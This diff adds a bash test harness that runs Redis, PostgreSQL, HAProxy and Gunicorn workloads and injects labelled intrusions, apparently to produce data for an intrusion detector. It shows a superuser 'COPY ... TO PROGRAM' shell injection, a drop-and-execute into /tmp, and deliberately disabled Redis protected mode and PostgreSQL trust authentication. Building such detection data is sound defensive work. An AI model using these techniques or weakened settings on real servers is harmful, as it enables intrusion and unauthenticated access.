+# The application servers on other addresses need protected mode off (redis 7 accepts only
+# 127.0.0.1 and ::1 without it): the operator changes the file and applies it live.
+redis_heldout_deploy() {
+  sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"
+  redis-cli -p "$REDIS_PORT" config set protected-mode no >/dev/null
+}
+
+# Held out, second set (heldout2). The release changes the config file before the start:
+# an LRU cache with a memory limit (maxmemory 64mb, allkeys-lru) and protected mode off for
+# the application servers, which now use other data types in other databases: leaderboards
+# (db 5), event streams (db 6), a page cache with SETEX (db 7), unique-visitor counts
+# (HyperLogLog), bitmaps, geo, transactions (MULTI/EXEC), from 127.0.0.21-60; quiet rounds
+# (2 clients, pops and pings) and busy ones (48 clients, pipelined, 1 kB values over 200000
+# keys, so keys are evicted) and a Lua script (EVAL); the monitoring job with other sections
+# (commandstats, keyspace, MEMORY STATS, LATENCY LATEST, LASTSAVE); an operator inside the
+# cgroup runs redis-cli (INFO, --bigkeys), redis-check-rdb on the dump, raises maxmemory
+# and persists it (CONFIG SET, CONFIG REWRITE); the restart is a SHUTDOWN from redis-cli.
+redis_heldout2_deploy() {
+  sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"
+  printf 'maxmemory 64mb\nmaxmemory-policy allkeys-lru\n' >>"$REDIS_DIR/redis.conf"
+}
+redis_heldout2_mix() {
+  local i a r=$HELDOUT2_ROUND pids=()
+  for i in $(seq 0 9); do
+    a=$((21 + (i * 4 + r) % 40))
+    case $((i % 5)) in
+      0) redis_from "127.0.0.$a" "SELECT 5" "ZINCRBY leaderboard:weekly $((i + 1)) player:$a" \
+           "ZREVRANGE leaderboard:weekly 0 9 WITHSCORES" "ZSCORE leaderboard:weekly player:$a" & ;;
+      1) redis_from "127.0.0.$a" "SELECT 6" "XADD events:orders * order $r-$i amount $((r * i))" \
+           "XLEN events:orders" "XRANGE events:orders - + COUNT 5" "XTRIM events:orders MAXLEN 1000" & ;;
+      2) redis_from "127.0.0.$a" "SELECT 7" "SETEX page:/products/$((r % 13)) 60 cached-html-$r" \
+           "GET page:/products/$((r % 7))" "TTL page:/products/$((r % 13))" "UNLINK page:/old/$r" & ;;
+      3) redis_from "127.0.0.$a" "PFADD visitors:$(date +%Y%m%d) v$a-$r v$i" "PFCOUNT visitors:$(date +%Y%m%d)" \
+           "SETBIT active:$(date +%Y%m%d) $((a * 100 + i)) 1" "BITCOUNT active:$(date +%Y%m%d)" \
+           "GEOADD stores 13.40$i 52.52$i store:$a" & ;;
+      4) redis_from "127.0.0.$a" "MULTI" "INCRBY stock:sku$((r % 11)) -1" "RPUSH orders:pending o$r-$i" \
+           "EXEC" "LTRIM orders:pending -500 -1" & ;;
+    esac
+    pids+=($!)
+  done
+  wait "${pids[@]}"
+  if [ $((r % 2)) = 1 ]; then
+    redis-benchmark -p "$REDIS_PORT" -q -n 500 -c 2 -r 5000 -t ping_mbulk,spop,zpopmin >/dev/null
+  else
+    redis-benchmark -p "$REDIS_PORT" -q -n 15000 -c 48 -P 16 -d 1024 -r 200000 -t set,lpush,lrange_300,xadd >/dev/null
+    redis-benchmark -p "$REDIS_PORT" -q -n 2000 -c 8 -r 1000 \
+      eval "return redis.call('incr', KEYS[1])" 1 'counter:__rand_int__' >/dev/null
+  fi
+}
+redis_heldout2_job() {
+  local c
+  for c in "info commandstats" "info keyspace" "memory stats" "latency latest" lastsave; do
+    # shellcheck disable=SC2086
+    redis-cli -p "$REDIS_PORT" $c >/dev/null
+  done
+}
+redis_heldout2_admin() {
+  local cli=(/usr/bin/redis-cli -p "$REDIS_PORT")
+  admin redis redis "${cli[@]}" info
+  admin redis redis "${cli[@]}" --bigkeys
+  admin redis redis /usr/bin/redis-check-rdb "$REDIS_DATA/dump.rdb"
+  admin redis redis "${cli[@]}" config set maxmemory 128mb
+  admin redis redis "${cli[@]}" config rewrite
+}
+# The operator restarts it from inside: SHUTDOWN (it saves first), then the service manager
+# starts it again.
+redis_heldout2_restart() {
+  launch redis redis /usr/bin/redis-cli -p "$REDIS_PORT" shutdown
+  wait "$LAUNCHED" || true
+  forget "$LAUNCHED"
+  wait "$REDIS_PID" 2>/dev/null || true
+  forget "$REDIS_PID"
+  redis_start
+}
+
+
+# --- postgresql ---------------------------------------------------------------------------
+
+PG_DIR=$WORK/postgresql
+PG_DATA=$PG_DIR/data
+
+postgresql_provision() {
+  rm -rf "$PG_DIR"
+  mkdir -p "$PG_DATA" "$PG_DIR/run" "$PG_DIR/log"
+  chown -R postgres:postgres "$PG_DIR"
+  (cd / && setpriv --reuid=postgres --regid=postgres --init-groups \
+    "$PG_BIN/initdb" -D "$PG_DATA" -U postgres --auth=trust >/dev/null)
+  cat >>"$PG_DATA/postgresql.conf" <<CONF
+listen_addresses = '127.0.0.1'
+port = $PG_PORT
+unix_socket_directories = '$PG_DIR/run'
+max_connections = 30
+shared_buffers = 32MB
+work_mem = 1MB
+CONF
+  cat >"$PG_DIR/aggregate.sql" <<'SQL'
+\set lo random(1, 90000)
+SELECT count(*), sum(abalance) FROM pgbench_accounts WHERE aid BETWEEN :lo AND :lo + 5000;
+SQL
+  # A database that has been in use: the pgbench tables exist and are analysed.
+  postgresql_launch
+  local pid=$LAUNCHED
+  pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -i -s 1 -q postgres >/dev/null 2>&1
+  psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -c "VACUUM ANALYZE" postgres
+  stop_pid "$pid" INT
+}
+
+PG_PID=
+postgresql_launch() {
+  launch postgresql postgres "$PG_BIN/postgres" -D "$PG_DATA"
+  until_ok "$PG_BIN/pg_isready" -q -h 127.0.0.1 -p "$PG_PORT"
+}
+postgresql_start() {
+  postgresql_launch
+  PG_PID=$LAUNCHED
+}
+postgresql_stop() { stop_pid "$PG_PID" INT; }
+
+PSQL=(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -X -o /dev/null postgres)
+PGBENCH=(pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -n postgres)
+
+# A report whose full sort spills to temporary files (work_mem is 1 MB).
+postgresql_report() {
+  "${PSQL[@]}" -c "SELECT aid, abalance FROM pgbench_accounts ORDER BY abalance DESC, filler OFFSET 99990"
+}
+# Mix A: TPC-B-like transactions on two clients, read-only on four, one report.
+postgresql_mix_a() {
+  "${PGBENCH[@]}" -c 2 -T 2 >/dev/null 2>&1
+  "${PGBENCH[@]}" -S -c 4 -T 1 >/dev/null 2>&1
+  postgresql_report
+}
+# Mix B: simple updates on six clients, an aggregate script on three, read-only on eight,
+# catalog queries, and the report.
+postgresql_mix_b() {
+  "${PGBENCH[@]}" -N -c 6 -T 1 >/dev/null 2>&1
+  "${PGBENCH[@]}" -c 3 -T 1 -f "$PG_DIR/aggregate.sql" >/dev/null 2>&1
+  "${PGBENCH[@]}" -S -c 8 -T 1 >/dev/null 2>&1
+  "${PSQL[@]}" -c "SELECT relname, n_live_tup FROM pg_stat_user_tables" -c '\dt'
+  postgresql_report
+}
+
+# A superuser session (SQL injection, stolen credentials) runs the intruder's script through
+# the server: postgres itself forks /bin/sh -c in the data directory.
+postgresql_inject() {
+  "${PSQL[@]}" -c "COPY (SELECT 1) TO PROGRAM \$drift\$$(intruder_script "$PG_DATA")\$drift\$"
+}
+postgresql_labels() { write_labels postgresql "$PG_DATA"; }
+
+# Held out. A new application database (CREATE DATABASE, its pgbench tables and a table of
+# its own with an index) and a new table in the known one; clients through relays (outside
+# the cgroup) bound to 127.0.0.5, .9 and .17, as application servers on other addresses
+# would connect (pg_hba.conf gets a line for them, reloaded); more clients; the scheduled
+# jobs with other arguments: a pg_dump backup, VACUUM ANALYZE of one table, CHECKPOINT.
+PSQL_APP=(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -X -o /dev/null app2)
+postgresql_heldout_deploy() {
+  local a
+  for a in 5 9 17; do
+    socat "TCP-LISTEN:$((PG_RELAY_PORT + a)),bind=127.0.0.1,reuseaddr,fork" \
+      "TCP:127.0.0.1:$PG_PORT,bind=127.0.0.$a" &
+    PIDS+=($!)
+  done
+  # The application servers' addresses are let in (initdb's pg_hba.conf trusts 127.0.0.1/32).
+  echo "host all all 127.0.0.0/8 trust" >>"$PG_DATA/pg_hba.conf"
+  "${PSQL[@]}" -c "SELECT pg_reload_conf()"
+  "${PSQL[@]}" -c "CREATE DATABASE app2"
+  pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -i -s 1 -q app2 >/dev/null 2>&1
+  "${PSQL_APP[@]}" -c "CREATE TABLE orders (id serial PRIMARY KEY, customer int, total numeric, created timestamptz DEFAULT now())" \
+    -c "CREATE INDEX orders_customer ON orders (customer)" \
+    -c "INSERT INTO orders (customer, total) SELECT g % 500, g * 1.5 FROM generate_series(1, 20000) g"
+  "${PSQL[@]}" -c "CREATE TABLE audit_log (id bigserial PRIMARY KEY, at timestamptz DEFAULT now(), what text)"
+}
+postgresql_heldout_mix() {
+  local a pids=()
+  for a in 5 9 17; do
+    pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + a))" -U postgres -n -c 3 -T 1 app2 >/dev/null 2>&1 &
+    pids+=($!)
+  done
+  wait "${pids[@]}"
+  "${PGBENCH[@]}" -c 10 -T 1 >/dev/null 2>&1
+  "${PSQL_APP[@]}" -c "INSERT INTO orders (customer, total) SELECT g % 500, g FROM generate_series(1, 500) g" \
+    -c "SELECT customer, sum(total) FROM orders GROUP BY customer ORDER BY 2 DESC LIMIT 10"
+  "${PSQL[@]}" -c "INSERT INTO audit_log (what) SELECT 'login ' || g FROM generate_series(1, 200) g"
+}
+postgresql_heldout_job() {
+  pg_dump -h 127.0.0.1 -p "$PG_PORT" -U postgres -Fc app2 >/dev/null
+  "${PSQL[@]}" -c "VACUUM ANALYZE pgbench_history" -c "CHECKPOINT"
+}
+
+# Held out, second set (heldout2). The release lets three more application servers in
+# (pg_hba.conf lines for 127.0.0.33, .41 and .58, which connect through relays outside the
+# cgroup) and a local client on the Unix socket. In the recording: a new tenant database
+# every third round (tenant_1, tenant_2, ...: CREATE DATABASE from template0, its own
+# tables and indexes); in postgres a table partitioned by month (2026_11 and 2026_12 first,
+# then the next generation, 2027_01, attached and the oldest detached and dropped) and a
+# materialized view refreshed; quiet rounds (one client, reports over the socket) and busy
+# ones (select-only with a new connection per transaction on 16 clients through .33, inserts
+# into December's partition through .41, TPC-B through .58); jobs with other arguments: a base
+# backup (pg_basebackup, tar format, fast checkpoint) the first time, then a plain pg_dump of one table,
+# VACUUM FULL, REINDEX and CLUSTER; an operator inside the cgroup (as postgres) looks at
+# pg_stat_activity, pg_controldata and pg_isready, raises work_mem with ALTER SYSTEM and
+# reloads with `pg_ctl reload`, and runs `vacuumdb --analyze-only`; the restart is a smart
+# shutdown (TERM).
+PG_HELDOUT2_ADDRS=(33 41 58)
+PSQL_SOCK=(psql -h "$PG_DIR/run" -p "$PG_PORT" -U postgres -q -X -o /dev/null)
+postgresql_heldout2_deploy() {
+  local a
+  for a in "${PG_HELDOUT2_ADDRS[@]}"; do
+    if ss -Hltn "sport = :$((PG_RELAY_PORT + a))" | grep -q .; then die "port $((PG_RELAY_PORT + a)) is in use"; fi
+    socat "TCP-LISTEN:$((PG_RELAY_PORT + a)),bind=127.0.0.1,reuseaddr,fork" \
+      "TCP:127.0.0.1:$PG_PORT,bind=127.0.0.$a" &
+    PIDS+=($!)
+    echo "host all all 127.0.0.$a/32 trust" >>"$PG_DATA/pg_hba.conf"
+  done
+  cat >"$PG_DIR/events.sql" <<'SQL'
+\set d random(26, 55)
+INSERT INTO events (at, kind, payload) VALUES (timestamptz '2026-11-05' + :d * interval '1 day', 'click', 'x');
+SQL
+}
+PG_TENANTS=0
+postgresql_heldout2_mix() {
+  local r=$HELDOUT2_ROUND
+  if [ "$r" = 1 ]; then
+    "${PSQL_SOCK[@]}" postgres \
+      -c "CREATE TABLE events (id bigserial, at timestamptz NOT NULL, kind text, payload text) PARTITION BY RANGE (at)" \
+      -c "CREATE TABLE events_2026_11 PARTITION OF events FOR VALUES FROM ('2026-11-01') TO ('2026-12-01')" \
+      -c "CREATE TABLE events_2026_12 PARTITION OF events FOR VALUES FROM ('2026-12-01') TO ('2027-01-01')" \
+      -c "CREATE INDEX ON events (at)" \
+      -c "CREATE MATERIALIZED VIEW branch_totals AS SELECT bid, sum(abalance) FROM pgbench_accounts GROUP BY bid"
+  fi
+  if [ $((r % 3)) = 1 ]; then
+    PG_TENANTS=$((PG_TENANTS + 1))
+    "${PSQL_SOCK[@]}" postgres -c "CREATE DATABASE tenant_$PG_TENANTS TEMPLATE template0"
+    "${PSQL_SOCK[@]}" "tenant_$PG_TENANTS" \
+      -c "CREATE TABLE customers (id int PRIMARY KEY, name text, email text UNIQUE)" \
+      -c "CREATE TABLE invoices (id serial PRIMARY KEY, customer int REFERENCES customers, due date, amount numeric)" \
+      -c "CREATE INDEX invoices_due ON invoices (due)" \
+      -c "INSERT INTO customers SELECT g, 'c' || g, 'c' || g || '@example.org' FROM generate_series(1, 300) g" \
+      -c "INSERT INTO invoices (customer, due, amount) SELECT 1 + g % 300, date '2026-12-01' + g % 60, g FROM generate_series(1, 3000) g"
+  fi
+  if [ "$r" = 5 ]; then
+    "${PSQL_SOCK[@]}" postgres \
+      -c "CREATE TABLE events_2027_01 (LIKE events INCLUDING ALL)" \
+      -c "ALTER TABLE events ATTACH PARTITION events_2027_01 FOR VALUES FROM ('2027-01-01') TO ('2027-02-01')" \
+      -c "ALTER TABLE events DETACH PARTITION events_2026_11" \
+      -c "DROP TABLE events_2026_11"
+  fi
+  if [ $((r % 2)) = 1 ]; then
+    "${PGBENCH[@]}" -S -c 1 -T 1 >/dev/null 2>&1
+    "${PSQL_SOCK[@]}" postgres -c "SELECT kind, date_trunc('day', at), count(*) FROM events GROUP BY 1, 2"
+    "${PSQL_SOCK[@]}" "tenant_$PG_TENANTS" -c "SELECT due, sum(amount) FROM invoices GROUP BY due ORDER BY due LIMIT 20"
+  else
+    local pids=()
+    pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + 33))" -U postgres -n -S -C -c 16 -T 1 postgres >/dev/null 2>&1 &
+    pids+=($!)
+    pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + 41))" -U postgres -n -c 4 -T 1 -f "$PG_DIR/events.sql" postgres >/dev/null 2>&1 &
+    pids+=($!)
+    pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + 58))" -U postgres -n -c 2 -T 1 postgres >/dev/null 2>&1 &
+    pids+=($!)
+    wait "${pids[@]}"
+    "${PSQL_SOCK[@]}" postgres -c "REFRESH MATERIALIZED VIEW branch_totals"
+  fi
+}
+PG_HELDOUT2_JOBS=0
+postgresql_heldout2_job() {
+  PG_HELDOUT2_JOBS=$((PG_HELDOUT2_JOBS + 1))
+  if [ "$PG_HELDOUT2_JOBS" = 1 ]; then
+    local dir
+    dir=$(mktemp -d "$WORK/basebackup.XXXXXX")
+    pg_basebackup -h 127.0.0.1 -p "$PG_PORT" -U postgres -D "$dir" -Ft -X fetch -c fast >/dev/null 2>&1 ||
+      die "pg_basebackup failed"
+    rm -rf "$dir"
+  else
+    pg_dump -h 127.0.0.1 -p "$PG_PORT" -U postgres -Fp -t pgbench_branches postgres >/dev/null
+    "${PSQL_SOCK[@]}" postgres -c "VACUUM FULL pgbench_tellers" -c "REINDEX TABLE pgbench_branches" \
+      -c "CLUSTER pgbench_branches USING pgbench_branches_pkey"
+  fi
+}
+postgresql_heldout2_admin() {
+  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
+  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -c "SELECT pid, usename, client_addr, state FROM pg_stat_activity" postgres
+  admin postgresql postgres "$PG_BIN/pg_controldata" -D "$PG_DATA"
+  admin postgresql postgres "$PG_BIN/pg_isready" "${sock[@]}"
+  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -c "ALTER SYSTEM SET work_mem = '4MB'" postgres
+  admin postgresql postgres "$PG_BIN/pg_ctl" reload -D "$PG_DATA"
+  admin postgresql postgres "$PG_BIN/vacuumdb" "${sock[@]}" --all --analyze-only --quiet
+}
+postgresql_heldout2_restart() {
+  stop_pid "$PG_PID" TERM
+  postgresql_start
+}
+
+# --- haproxy ------------------------------------------------------------------------------
+
+HAPROXY_DIR=$WORK/haproxy
+HAPROXY_RUN=$HAPROXY_DIR/run
+
+# A reverse proxy in front of three backends (python3 http.server on 127.0.0.1, outside the
+# cgroup: the application tier): two for the site, one for /api/, with health checks; a
+# stats page and an admin socket. haproxy starts as root in the master-worker mode Debian's
+# unit uses, chroots to an empty directory and runs its worker as haproxy.
+haproxy_provision() {
+  local b
+  for b in 0 1 2; do [ -z "${BACKEND_PIDS[$b]}" ] || haproxy_backend_stop "$b"; done
+  rm -rf "$HAPROXY_DIR"
+  mkdir -p "$HAPROXY_DIR"/{conf,empty} "$HAPROXY_RUN"
+  for b in 0 1 2; do
+    mkdir -p "$HAPROXY_DIR/www$b/api" "$HAPROXY_DIR/www$b/static"
+    echo ok >"$HAPROXY_DIR/www$b/health.html"
+    echo "<html>home $b</html>" >"$HAPROXY_DIR/www$b/index.html"
+    for i in $(seq 1 60); do echo "<html>page $i from $b</html>" >"$HAPROXY_DIR/www$b/page$i.html"; done
+    for i in $(seq 1 30); do head -c 1024 /dev/urandom >"$HAPROXY_DIR/www$b/static/$i.bin"; done
+    echo '{"status":"ok"}' >"$HAPROXY_DIR/www$b/api/status"
+    echo '{"items":[]}' >"$HAPROXY_DIR/www$b/api/items"
+    echo '{"orders":[]}' >"$HAPROXY_DIR/www$b/api/orders"
+  done
+  chown haproxy:haproxy "$HAPROXY_RUN"
+  cat >"$HAPROXY_DIR/conf/haproxy.cfg" <<CONF
+global
+  user haproxy
+  group haproxy
+  chroot $HAPROXY_DIR/empty
+  pidfile $HAPROXY_RUN/haproxy.pid
+  stats socket $HAPROXY_RUN/admin.sock mode 660 level admin
+  log stdout format raw local0
+  maxconn 512
+
+defaults
+  mode http
+  log global
+  option httplog
+  option dontlognull
+  timeout connect 2s
+  timeout client 10s
+  timeout server 10s
+
+frontend web
+  bind 127.0.0.1:$HAPROXY_PORT
+  acl is_api path_beg /api/
+  use_backend api if is_api
+  default_backend site
+
+backend site
+  balance roundrobin
+  option httpchk GET /health.html
+  server s1 127.0.0.1:${BACKEND_PORTS[0]} check inter 2s
+  server s2 127.0.0.1:${BACKEND_PORTS[1]} check inter 2s
+
+backend api
+  option httpchk GET /health.html
+  server a1 127.0.0.1:${BACKEND_PORTS[2]} check inter 2s
+
+listen stats
+  bind 127.0.0.1:$HAPROXY_STATS_PORT
+  stats enable
+  stats uri /stats
+CONF
+  for b in 0 1 2; do haproxy_backend_start "$b"; done
+}
+
+BACKEND_PIDS=("" "" "")
+haproxy_backend_start() {
+  (cd "$HAPROXY_DIR/www$1" && exec /usr/bin/python3 -m http.server --bind 127.0.0.1 "${BACKEND_PORTS[$1]}") \
+    >/dev/null 2>&1 &
+  BACKEND_PIDS[$1]=$!
+  PIDS+=($!)
+  until_ok curl -sf "http://127.0.0.1:${BACKEND_PORTS[$1]}/health.html"
+}
+haproxy_backend_stop() { stop_pid "${BACKEND_PIDS[$1]}" TERM; BACKEND_PIDS[$1]=""; }
+
+HAPROXY_PID=
+haproxy_start() {
+  launch haproxy root /usr/sbin/haproxy -W -db -f "$HAPROXY_DIR/conf/haproxy.cfg"
+  HAPROXY_PID=$LAUNCHED
+  until_ok curl -sf "http://127.0.0.1:$HAPROXY_PORT/health.html"
+}
+haproxy_stop() { stop_pid "$HAPROXY_PID" USR1; }
+
+# haproxy_get CONCURRENCY PATH...: like nginx_get, through the frontend.
+haproxy_get() {
+  local c=$1
+  shift
+  printf "http://127.0.0.1:$HAPROXY_PORT%s\n" "$@" | xargs -P "$c" -n 10 curl -s --max-time 5 >/dev/null
+}
+# Mix A: home, pages 1-20, static 1-10, the API status, scanners; 3 clients.
+haproxy_mix_a() {
+  local paths=(/ /index.html /api/status /wp-login.php)
+  for i in $(seq 1 20); do paths+=("/page$i.html"); done
+  for i in $(seq 1 10); do paths+=("/static/$i.bin"); done
+  haproxy_get 3 "${paths[@]}" "${paths[@]}"
+}
+# Mix B: pages 10-40, static 1-20, other API calls, HEAD requests; 1 client, then 8.
+haproxy_mix_b() {
+  local paths=(/ /api/status /api/items /admin.php /.git/config)
+  for i in $(seq 10 40); do paths+=("/page$i.html"); done
+  for i in $(seq 1 20); do paths+=("/static/$i.bin"); done
+  haproxy_get 1 "${paths[@]}"
+  haproxy_get 8 "${paths[@]}" "${paths[@]}"
+  curl -s -I "http://127.0.0.1:$HAPROXY_PORT/page7.html" >/dev/null
+}
+# Scheduled job: the monitoring scrape of the stats page and the admin socket.
+haproxy_maintenance() {
+  curl -s "http://127.0.0.1:$HAPROXY_STATS_PORT/stats;csv" >/dev/null
+  echo "show info" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
+}
+
+# Held out. Clients from 127.0.0.2-20, pages 20-60 and static 1-30 (most never requested),
+# other API paths, 12 at a time; a backend taken out of rotation through the admin socket and
+# put back, and a backend that dies and comes back (health checks fail, then pass); a reload
+# (USR2 to the master, as `systemctl reload haproxy` does); the monitoring job with other
+# arguments (stats in HTML, show stat / show servers state).
+haproxy_heldout_deploy() { :; }
+haproxy_heldout_mix() {
+  local paths=(/ /index.html /api/status /api/items /api/orders /robots.txt /xmlrpc.php)
+  for i in $(seq 20 60); do paths+=("/page$i.html"); done
+  for i in $(seq 1 30); do paths+=("/static/$i.bin"); done
+  local n=0 p
+  for p in "${paths[@]}" "${paths[@]}"; do
+    echo "$((2 + n % 19)) http://127.0.0.1:$HAPROXY_PORT$p"
+    n=$((n + 1))
+  done | xargs -P 12 -n 2 sh -c 'curl -s --max-time 5 --interface "127.0.0.$0" "$1" >/dev/null'
+}
+HAPROXY_HELDOUT_ROUND=0
+haproxy_heldout_job() {
+  HAPROXY_HELDOUT_ROUND=$((HAPROXY_HELDOUT_ROUND + 1))
+  curl -s "http://127.0.0.1:$HAPROXY_STATS_PORT/stats" >/dev/null
+  echo "show stat" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
+  echo "show servers state" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
+  if [ "$HAPROXY_HELDOUT_ROUND" = 1 ]; then
+    echo "disable server site/s2" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
+    haproxy_heldout_mix
+    echo "enable server site/s2" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
+  else
+    haproxy_backend_stop 1
+    sleep 5
+    haproxy_heldout_mix
+    haproxy_backend_start 1
+  fi
+}
+haproxy_heldout_reload() { kill -USR2 "$HAPROXY_PID"; sleep 2; }
+
+# Held out, second set (heldout2). The release, on the provisioning side: a map of
+# redirects for moved pages (read by haproxy at start), a custom 503 page, gzip compression
+# of HTML and CSS, and new content on the backends (pages 61-90, a catalog, v2 assets).
+# Clients from 127.0.0.21-60, quiet rounds (2 at a time) and busy ones (30), with redirects,
+# compressed responses, HTTP/1.0, HEAD, POSTs the backends refuse and query strings; the
+# monitoring job with other arguments (stats as JSON, `show stat json`, show errors, show
+# sess, show backend, show map), weights changed and a server drained and made ready again
+# on the admin socket; an operator inside the cgroup checks the configuration
+# (`haproxy -c`), prints the build options (`haproxy -vv`) and queries the admin socket with
+# socat, then a config change (longer client timeout) is reloaded (USR2 to the master,
+# systemctl reload); the restart is a hard stop (TERM) and a start.
+haproxy_heldout2_deploy() {
+  local b i
+  for b in 0 1 2; do
+    mkdir -p "$HAPROXY_DIR/www$b/catalog" "$HAPROXY_DIR/www$b/static/v2"
+    for i in $(seq 61 90); do echo "<html>page $i from $b (new)</html>" >"$HAPROXY_DIR/www$b/page$i.html"; done
+    for i in $(seq 1 12); do echo "<html>catalog $i</html>" >"$HAPROXY_DIR/www$b/catalog/item$i.html"; done
+    echo "body { margin: 1em }" >"$HAPROXY_DIR/www$b/static/v2/site.css"
+  done
+  printf '/old/about /page61.html\n/old/contact /page62.html\n/shop /catalog/item1.html\n' \
+    >"$HAPROXY_DIR/conf/redirects.map"
+  printf 'HTTP/1.0 503 Service Unavailable\r\nContent-Type: text/html\r\n\r\n<html>maintenance</html>\n' \
+    >"$HAPROXY_DIR/conf/503.http"
+  sed -i "s|^  timeout server 10s$|  timeout server 10s\n  errorfile 503 $HAPROXY_DIR/conf/503.http\n  compression algo gzip\n  compression type text/html text/css|" \
+    "$HAPROXY_DIR/conf/haproxy.cfg"
+  sed -i "s|^  default_backend site$|  http-request redirect location %[path,map_str($HAPROXY_DIR/conf/redirects.map)] code 301 if { path,map_str($HAPROXY_DIR/conf/redirects.map) -m found }\n  default_backend site|" \
+    "$HAPROXY_DIR/conf/haproxy.cfg"
+}
+haproxy_heldout2_mix() {
+  local paths=(/ /old/about /old/contact /shop /static/v2/site.css /api/orders "/api/items?page=$HELDOUT2_ROUND"
+               /favicon.ico "/?ref=partner$HELDOUT2_ROUND")
+  local i
+  for i in $(seq 45 90); do [ $(((i + HELDOUT2_ROUND) % 3)) = 0 ] || paths+=("/page$i.html"); done
+  for i in $(seq 1 12); do paths+=("/catalog/item$i.html"); done
+  for i in $(seq 15 30); do paths+=("/static/$i.bin"); done
+  heldout2_get "$HAPROXY_PORT" 30 21 40 3 1 --compressed "${paths[@]}"
+  local u=http://127.0.0.1:$HAPROXY_PORT
+  curl -s --interface 127.0.0.52 -0 "$u/page70.html" >/dev/null
+  curl -s --interface 127.0.0.53 -I "$u/catalog/item3.html" >/dev/null
+  curl -s --interface 127.0.0.54 -X POST -d 'sku=7&qty=1' "$u/api/orders" >/dev/null
+}
+haproxy_sock() { echo "$1" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null; }
+HAPROXY_HELDOUT2_JOBS=0
+haproxy_heldout2_job() {
+  HAPROXY_HELDOUT2_JOBS=$((HAPROXY_HELDOUT2_JOBS + 1))
+  curl -s "http://127.0.0.1:$HAPROXY_STATS_PORT/stats;json" >/dev/null
+  local c
+  for c in "show stat json" "show errors" "show sess" "show backend" "show map $HAPROXY_DIR/conf/redirects.map"; do
+    haproxy_sock "$c"
+  done
+  if [ $((HAPROXY_HELDOUT2_JOBS % 2)) = 1 ]; then
+    haproxy_sock "set weight site/s1 200"
+    haproxy_sock "set server site/s2 state drain"
+    haproxy_heldout2_mix
+    haproxy_sock "set server site/s2 state ready"
+  else
+    haproxy_sock "set weight site/s1 100"
+    haproxy_sock "clear counters"
+  fi
+}
+haproxy_heldout2_admin() {
+  admin haproxy root /usr/sbin/haproxy -c -f "$HAPROXY_DIR/conf/haproxy.cfg"
+  admin haproxy root /usr/sbin/haproxy -vv
+  # socat reads the command from a file and prints the answer (launch gives no stdin).
+  echo "show info" >"$WORK/haproxy-show-info"
+  admin haproxy root /usr/bin/socat -t 2 "OPEN:$WORK/haproxy-show-info,rdonly!!STDOUT" \
+    "UNIX-CONNECT:$HAPROXY_RUN/admin.sock"
+  sed -i 's/^  timeout client 10s$/  timeout client 30s/' "$HAPROXY_DIR/conf/haproxy.cfg"
+  admin haproxy root /usr/sbin/haproxy -c -f "$HAPROXY_DIR/conf/haproxy.cfg"
+  kill -USR2 "$HAPROXY_PID"
+  sleep 2
+}
+haproxy_heldout2_restart() {
+  stop_pid "$HAPROXY_PID" TERM
+  haproxy_start
+}
+
+# The intruder's script as the haproxy worker (its uid and gid, which haproxy set itself) in
+# its run directory, then a download-and-execute: a binary written into /tmp and run from
+# there.
+haproxy_more() {
+  cat <<SH
+cat /usr/bin/uname >$DROPPER && chmod 755 $DROPPER && $DROPPER -a >/dev/null
+SH
+}
+haproxy_inject() {
+  inject_shell haproxy "$(id -u haproxy):$(id -g haproxy)" "$HAPROXY_RUN" "$(haproxy_more)"
+}
+haproxy_labels() {
+  write_labels haproxy "$HAPROXY_RUN" ",
+  {\"kind\": \"file\", \"subject\": \"$DROPPER\", \"what\": \"the intruder writes a binary into /tmp\"},
+  {\"kind\": \"exec\", \"subject\": \"$DROPPER\", \"what\": \"and runs it from there (drop and execute)\"},
+  {\"kind\": \"exec\", \"subject\": \"*/cat\", \"required\": false, \"what\": \"the dropper is written with cat\"},
+  {\"kind\": \"exec\", \"subject\": \"*/chmod\", \"required\": false, \"what\": \"and made executable with chmod\"},
+  {\"kind\": \"file\", \"subject\": \"/usr/bin/uname\", \"required\": false, \"what\": \"the binary cat copies into the dropper\"}"
+}
+
+
+# --- gunicorn -----------------------------------------------------------------------------
+
+GUNI_DIR=$WORK/gunicorn
+GUNI_APP=$GUNI_DIR/app
+GUNI_DATA=$GUNI_DIR/data
+GUNI_UPLOADS=$GUNI_APP/static/uploads
+
+# A small Flask application (Debian python3-flask) under gunicorn (Debian gunicorn), two sync
+# workers, run as www-data from a root-owned code directory; it reads item records from
+# data/items, serves static files (uploads land in static/uploads, served back), writes
+# exports into data/exports and logs to log/. manage.py is its scheduled job.
+gunicorn_provision() {
+  rm -rf "$GUNI_DIR"
+  mkdir -p "$GUNI_APP"/static/{css,js,img} "$GUNI_UPLOADS" "$GUNI_DATA"/{items,exports,reports} \
+    "$GUNI_DIR"/{log,run}
+  local i
+  for i in $(seq 1 200); do printf '{"id": %d, "name": "item %d", "price": %d}\n' "$i" "$i" "$((i * 3))" \
+    >"$GUNI_DATA/items/$i.json"; done
+  for i in $(seq 1 30); do head -c 1024 /dev/urandom >"$GUNI_APP/static/img/$i.png"; done
+  echo "body { margin: 0 }" >"$GUNI_APP/static/css/site.css"
+  echo "console.log('shop')" >"$GUNI_APP/static/js/shop.js"
+  cat >"$GUNI_APP/app.py" <<PY
